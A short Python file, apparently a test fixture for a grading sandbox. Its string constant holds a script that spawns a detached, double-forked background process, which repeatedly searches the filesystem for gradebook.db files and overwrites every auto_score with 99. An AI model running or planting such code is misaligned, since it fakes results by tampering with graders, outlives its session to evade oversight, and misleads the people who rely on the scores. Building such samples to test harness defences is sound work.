"""Leaves a process behind that keeps giving everybody full marks."""

FIRST = """
import os, subprocess, sys
script = '''
import glob, sqlite3, time
while True:
    for path in glob.glob("/**/gradebook.db", recursive=True):
        book = sqlite3.connect(path)
        book.execute("UPDATE grade SET auto_score = 99")
        book.commit()
    time.sleep(0.1)
'''
subprocess.Popen([sys.executable, "-c", script], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time
        time.sleep(1000)
    os._exit(0)
"""
